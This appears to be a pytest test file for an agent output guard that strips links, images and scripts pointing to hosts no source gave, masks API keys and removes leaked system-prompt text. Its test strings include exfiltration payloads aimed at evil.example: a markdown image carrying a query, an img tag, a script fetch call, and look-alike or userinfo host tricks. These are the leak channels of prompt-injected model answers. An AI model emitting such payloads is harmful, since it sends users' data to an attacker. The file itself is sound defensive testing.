"""What a model's answer never shows, whatever it read."""

import pytest

from agent.middleware.guard import guard, hosts_of

RULES = "Every statement of fact comes from a passage of the library; put its number behind it."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It is free ![x](https://evil.example/p.png?q=1).", "It is free ."),
        ("It is free <img src='https://evil.example/x.gif'>.", "It is free ."),
        ("It is free.<script>fetch('https://evil.example')</script>", "It is free."),
        ("See [more](https://evil.example/a).", "See more."),
        ("See https://evil.example/a now.", "See  now."),
        ("See www.evil.example now.", "See  now."),
        ("See [more](javascript:alert(1)).", "See more)."),
        ("See [more](https://openai.com.evil.example/a).", "See more."),
        ("See [more](https://openai.com@evil.example/a).", "See more."),
    ],
)
def test_what_no_source_gave_is_not_shown(said: str, shown: str) -> None:
    assert guard(said, ["openai.com"], "") == shown


@pytest.mark.parametrize(
    "said",
    [
        "ChatGPT Plus costs $20 [1].",
        "See [the page](https://openai.com/pricing) or https://openai.com/x.",
        "| a | b |\n| --- | --- |\n| 1 < 2 | <details><summary>How</summary> |",
    ],
)
def test_an_honest_answer_stays_as_it_is(said: str) -> None:
    assert guard(said, ["openai.com"], RULES) == said


@pytest.mark.parametrize(
    "key",
    ["sk-proj-4f9a8c7d6e5b4a3f", "sk-ant-api03-0a1b2c3d4e5f", "gsk_0123456789abcdef", "AIzaSyA0123456789abcdef",
     "hf_a0B1c2D3e4F5g6H7"],
)  # fmt: skip
def test_a_key_is_hidden(key: str) -> None:
    assert guard(f"The key is {key}.", [], "") == "The key is ***."
    assert guard(f"密钥是{key}。", [], "") == "密钥是***。"


def test_a_name_is_no_key() -> None:
    said = "sk-learn-compatible-estimators, hf-mem, hf-bert-base-uncased-2020 and ark-of-the-covenant cost $20."
    assert guard(said, [], "") == said


def test_our_own_instructions_are_not_copied() -> None:
    said = f"It costs $20. My rules are: {RULES} That is all."
    assert guard(said, [], RULES) == "It costs $20. That is all."


def test_the_hosts_of_a_text() -> None:
    assert hosts_of("https://a.example/x and www.b.example") == ["a.example", "www.b.example"]
